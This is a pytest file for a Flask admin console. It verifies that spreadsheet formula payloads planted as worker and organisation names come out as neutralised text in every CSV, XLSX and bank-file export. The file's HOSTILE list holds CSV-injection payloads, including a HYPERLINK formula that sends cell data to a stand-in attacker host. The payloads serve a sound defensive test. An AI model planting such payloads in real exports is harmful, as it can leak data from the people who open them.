"""Spreadsheet formulas never reach a file: `=HYPERLINK(…)`, `+1+2`, `-3+4` and `@SUM(1)` planted as a worker's
name and as an organisation's name (registration needs no login) come out as text in every export — each console
list as CSV and XLSX, the review queue, appeals, transfers, the paid list and the bank file — masked or not."""
import csv
import io
from datetime import timedelta

import pytest
from factories import make
from flask_admin.contrib.sqla import ModelView
from openpyxl import load_workbook

from backoffice.domain.enums import ApplicationState, OrgKind, PaymentStatus
from backoffice.domain.masking import FORMULA_PREFIXES
from backoffice.extensions import db as _db
from backoffice.models import (
    Appeal,
    Applicant,
    Application,
    AuditEvent,
    Disbursement,
    Organisation,
    PaymentBatch,
    RosterEntry,
    Transfer,
)
from backoffice.models.base import utcnow
from backoffice.services import orgs as org_service

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+2", "-3+4", "@SUM(1)"]
# Lists whose columns can hold neither a name nor an organisation's name (still checked for formulas).
NO_NAME_COLUMNS = {"documents", "notifications"}


@pytest.fixture
def planted(app, orgs):
    """Every console model, and the review lists' rows, owned by organisations named like formulas, with workers
    named like formulas."""
    hostile_orgs = [org_service.create_org(orgs["YX"], code=f"EVIL{i}", name=h, kind=OrgKind.GRASSROOTS)
                    for i, h in enumerate(HOSTILE)]
    admin = app.extensions["admin"]
    admin = admin[0] if isinstance(admin, list) else admin
    views = [v for v in admin._views if isinstance(v, ModelView) and v.can_export]
    for org, name in zip(hostile_orgs, HOSTILE):
        for view in views:
            if view.model is AuditEvent:  # append-only: written with the name, never changed after
                _db.session.add(AuditEvent(actor_type="applicant", actor_name=name, org_id=org.id, action="test"))
            else:
                _name(make(view.model, org), name)
        for model in (Appeal, Transfer, Disbursement, RosterEntry):
            _name(make(model, org), name)
    _review_rows(hostile_orgs)
    _db.session.commit()
    return views


def _name(record, name):
    """Give the record (a programme, a batch, an organisation …) and its worker the hostile name."""
    if "name" in type(record).__table__.columns:
        record.name = name
    for target in (record, getattr(record, "applicant", None), getattr(record, "application", None)):
        if isinstance(target, Application):
            target = target.applicant
        if isinstance(target, (Applicant, RosterEntry)):
            target.name = name


def _review_rows(hostile_orgs):
    """Rows the review exports list: submitted applications, open appeals, transfers, paid disbursements."""
    for org in hostile_orgs:
        for a in _db.session.execute(_db.select(Application).where(Application.org_id == org.id)).scalars():
            a.state, a.submitted_at = ApplicationState.IN_REVIEW, utcnow()
        for d in _db.session.execute(_db.select(Disbursement).join(Application).where(
                Application.org_id == org.id)).scalars():
            d.status, d.paid_at, d.bank_card = PaymentStatus.PAID, utcnow() - timedelta(days=1), \
                "6222020200112233445"
        for t in _db.session.execute(_db.select(Transfer).where(Transfer.from_org_id == org.id)).scalars():
            t.to_org_id = hostile_orgs[0].id


def _cells(resp, fmt):
    assert resp.status_code == 200, resp.status_code
    if fmt == "csv":
        return [c for row in csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))) for c in row]
    wb = load_workbook(io.BytesIO(resp.data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    return [c.value for c in cells]


def _check(cells, where, expect_planted=True):
    live = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_PREFIXES)]
    assert not live, f"{where}: cells that would run as formulas: {live[:5]}"
    if expect_planted:
        assert any(isinstance(c, str) and c.startswith("'") and c[1:2] in "=+-@" for c in cells), \
            f"{where}: no planted value reached the file, so this check proved nothing"


def _exports(views, pb_ids):
    for view in views:
        for fmt in ("csv", "xlsx"):
            yield f"/admin/{view.endpoint}/export/{fmt}/", fmt, view.endpoint not in NO_NAME_COLUMNS
    for fmt in ("csv", "xlsx"):
        yield f"/admin/review/export/{fmt}?mine=0", fmt, True
        yield f"/admin/appeals/?export={fmt}&status=&mine=0", fmt, True
        yield f"/admin/transfers/?export={fmt}", fmt, True
        yield f"/admin/payments/paid?export={fmt}", fmt, True
    for pb_id in pb_ids:
        yield f"/admin/payments/{pb_id}/bank-file", "xlsx", True


@pytest.mark.parametrize("unmask", ["", "1"])
def test_every_export_neutralises_planted_formulas(app, client, orgs, planted, login_as, unmask):
    pb_ids = [pb.id for pb in _db.session.execute(_db.select(PaymentBatch)).scalars()]
    city = orgs["GZ"].id
    for pb_id in pb_ids:  # the bank file is the payer's: let the city pay them all
        _db.session.get(PaymentBatch, pb_id).org_id = city
    _db.session.commit()
    login_as("GZ")  # the demo city may unmask: the full names must be neutralised too
    checked = 0
    for url, fmt, expect in _exports(planted, pb_ids):
        url += ("&" if "?" in url else "?") + "unmask=1" if unmask else ""
        _check(_cells(client.get(url), fmt), url, expect)
        checked += 1
    assert checked >= 2 * len(planted) + 8 + 1


def test_organisation_names_registered_without_login_are_neutralised(app, client, orgs, planted, login_as):
    login_as("GZ")
    cells = _cells(client.get("/admin/orgs/export/csv/"), "csv")
    for name in HOSTILE:
        assert "'" + name in cells
    assert _db.session.execute(_db.select(Organisation).where(Organisation.name == HOSTILE[0])).first()
